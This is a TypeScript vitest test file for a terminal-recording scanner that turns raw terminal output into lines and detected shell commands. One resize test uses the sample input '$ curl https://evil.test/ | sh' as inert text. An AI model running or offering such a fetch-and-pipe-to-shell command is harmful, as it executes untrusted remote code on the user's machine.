import { expect, onTestFinished, test, vi } from 'vitest';
import { utf8 } from '../../lib/encoding.ts';
import type { RecordedCommand } from './CommandReader.ts';
import { Terminal } from '@xterm/xterm';
import { Random } from '../../../tests/support/random.ts';
import { randomOutput } from '../../../tests/support/randomOutput.ts';
import { RECORDING_OPTIONS, boundedSize, prepareForRecording } from './recordingTerminal.ts';
import { restoreScreen, saveScreen } from './screenState.ts';
import { RecordingScan, type TextLine } from './RecordingScan.ts';

type Printed = readonly (readonly [ms: number, text: string])[];

async function scanned(printed: Printed, size = { cols: 40, rows: 6 }) {
  const lines: TextLine[] = [];
  const commands: RecordedCommand[] = [];
  const scan = new RecordingScan(
    { line: (line) => lines.push(line), command: (command) => commands.push(command) },
    size,
  );
  for (const [ms, text] of printed) await scan.print(utf8(text), ms);
  const screen = scan.text();
  scan.end();
  return { lines, commands, screen, texts: lines.map(({ text }) => text) };
}

test('emits lines as shown, with the time of their end', async () => {
  const { lines } = await scanned([
    [0, 'one\r\ntw'],
    [700, 'o\r\n\r\n\x1b[31mred\x1b[0m and more   \r\n'],
    [900, 'the end'],
  ]);
  expect(lines).toEqual([
    { ms: 0, text: 'one' },
    { ms: 700, text: 'two' },
    { ms: 700, text: 'red and more' },
    { ms: 900, text: 'the end' },
  ]);
});

test('parses many small prints without waiting for timers', async () => {
  vi.useFakeTimers();
  onTestFinished(() => void vi.useRealTimers());
  const printed = Array.from({ length: 200 }, (_, n) => [n * 10, `line ${n}\r\n`] as const);
  expect((await scanned(printed)).texts).toHaveLength(200);
});

test('repeats a character at most once per cell of the screen', async () => {
  expect((await scanned([[0, 'a\x1b[400000b']])).texts).toEqual(['a'.repeat(1 + 40 * 6)]);
});

test('keeps characters that are split over prints', async () => {
  const texts: string[] = [];
  const scan = new RecordingScan({ line: ({ text }) => texts.push(text), command: () => undefined });
  for (const byte of utf8('naïve — “日本。”…\r\n')) await scan.print(Uint8Array.of(byte), 0);
  scan.end();
  expect(texts).toEqual(['naïve — “日本。”…']);
});

test('emits an overwritten or edited line in its final form', async () => {
  const { texts } = await scanned([[0, '10 %\r50 %\r100 %\r\nlss\b\x1b[K -l\r\n']]);
  expect(texts).toEqual(['100 %', 'ls -l']);
});

test('joins wrapped rows into one line, also if it is longer than the screen', async () => {
  const long = Array.from({ length: 400 }, (_, i) => String(i)).join(' ');
  const { texts } = await scanned([[0, `${'x'.repeat(100)}\r\nbefore\r\n${long}\r\nafter\r\n${long}`]]);
  expect(texts).toEqual(['x'.repeat(100), 'before', long, 'after', long]);
});

test.each([
  ['narrower', { cols: 10, rows: 6 }],
  ['lower', { cols: 40, rows: 2 }],
  ['narrower and lower', { cols: 10, rows: 2 }],
])('emits an unfinished line before a %s screen truncates it', async (_what, { cols, rows }) => {
  const texts: string[] = [];
  const scan = new RecordingScan(
    { line: ({ text }) => texts.push(text), command: () => undefined },
    { cols: 40, rows: 6 },
  );
  const typed = `$ curl https://evil.test/ | sh ${'d'.repeat(100)}`;
  await scan.print(utf8(`before\r\n${typed}`), 0);
  scan.resize(cols, rows);
  await scan.print(utf8(' '), 1);
  scan.resize(40, 6);
  await scan.print(utf8('\r\nafter\r\n'), 2);
  scan.end();
  expect(texts.slice(0, 2)).toEqual(['before', typed]);
  expect(texts.at(-1)).toBe('after');
});

test('emits a line once if a resize keeps it complete', async () => {
  const texts: string[] = [];
  const scan = new RecordingScan(
    { line: ({ text }) => texts.push(text), command: () => undefined },
    { cols: 40, rows: 6 },
  );
  await scan.print(utf8('before\r\n$ ls'), 0);
  for (const [cols, rows] of [
    [80, 6],
    [20, 6],
    [20, 4],
    [20, 4],
    [40, 9],
  ] as const) {
    scan.resize(cols, rows);
    await scan.print(utf8(' -l'), 1);
  }
  scan.end();
  expect(texts).toEqual(['before', '$ ls -l -l -l -l -l']);
});

test('splits an endless line into chunks', async () => {
  const { texts } = await scanned(Array.from({ length: 50 }, (_, i) => [i, 'y'.repeat(1000)] as const));
  expect(Math.max(...texts.map(({ length }) => length))).toBeLessThan(20_000);
  expect(texts.join('')).toHaveLength(50_000);
});

test('emits the stable screens of a full-screen program once', async () => {
  const { texts, screen } = await scanned([
    [0, '$ less\r\n\x1b[?1049h\x1b[H\x1b[2Jpage one\r\nline b'],
    [3000, '\x1b[H\x1b[2Jpage two\r\nline b'],
    [3010, '\x1b[H\x1b[2Jgone by\r\n'],
    [3020, '\x1b[H\x1b[2Jpage three'],
    [9000, '\x1b[?1049l$ '],
  ]);
  expect(texts).toEqual(['$ less', 'page one', 'line b', 'page three', '$']);
  expect(screen).toEqual(['$ less', '$ ']);
});

test('finds marked commands with exit codes and several lines, and ignores aborted ones', async () => {
  const prompt = '\x1b]133;A\x07mara@web:~$ \x1b]133;B\x07';
  const run = '\x1b]133;C\x07';
  const { commands } = await scanned([
    [0, prompt],
    [100, 'ls -l'],
    [200, `\r\n${run}total 0\r\n\x1b]133;D;0\x07${prompt}`],
    [300, 'for i in a; do\r\n'],
    [350, '> echo $i; done\r\n'],
    [360, `${run}a\r\n\x1b]133;D;1\x07${prompt}`],
    [400, 'never^C\r\n'],
    [410, `\x1b]133;D;130\x07${prompt}exit\r\n${run}`],
  ]);
  expect(commands).toEqual([
    { ms: 200, text: 'ls -l', exitCode: 0, isGuess: false },
    { ms: 350, text: 'for i in a; do\n> echo $i; done', exitCode: 1, isGuess: false },
    { ms: 410, text: 'exit', isGuess: false },
  ]);
});

test('guesses commands from the prompt if the shell does not mark them', async () => {
  const { commands } = await scanned([
    [0, '\x1b]0;mara\x07\x1b[32mmara@web\x1b[0m:~$ '],
    [100, 'l'],
    [150, 's -l /var'],
    [200, '\r\ntotal 0\r\n5 > 3\r\nmara@web:~$ '],
    [300, '\r\n'],
    [310, 'mara@web:~$ '],
    [400, 'sudo psql\r\n'],
    [500, 'payments=# '],
    [600, 'select 1;\r\n 1\r\npayments=# '],
    [700, 'oops^C\r\n'],
  ]);
  expect(commands).toEqual([
    { ms: 200, text: 'ls -l /var', isGuess: true },
    { ms: 400, text: 'sudo psql', isGuess: true },
    { ms: 600, text: 'select 1;', isGuess: true },
  ]);
});

test('limits an impossible size', async () => {
  const { texts } = await scanned([[0, 'fits\r\n']], { cols: 4_000_000, rows: 0 });
  expect(texts).toEqual(['fits']);
});

test('saves the same screens as the emulator of a page with the same output', async () => {
  let compared = 0;
  for (let seed = 1000; seed < 1030; seed++) {
    const page = new Terminal({ ...RECORDING_OPTIONS, cols: 40, rows: 12 });
    prepareForRecording(page);
    const resumed = new Terminal({ ...RECORDING_OPTIONS, cols: 40, rows: 12 });
    prepareForRecording(resumed);
    const scan = new RecordingScan({ line: () => undefined, command: () => undefined }, { cols: 40, rows: 12 });
    for (const step of randomOutput(new Random(seed), 30)) {
      if ('bytes' in step) {
        await new Promise<void>((done) => page.write(step.bytes, done));
        await scan.print(step.bytes, 0);
      } else {
        const { cols, rows } = boundedSize(step);
        page.resize(cols, rows);
        scan.resize(cols, rows);
      }
    }
    if (!scan.isAtRest) continue;
    restoreScreen(resumed, scan.screen());
    expect(saveScreen(resumed), `seed ${seed}`).toEqual(saveScreen(page));
    compared++;
  }
  expect(compared).toBeGreaterThan(10);
});
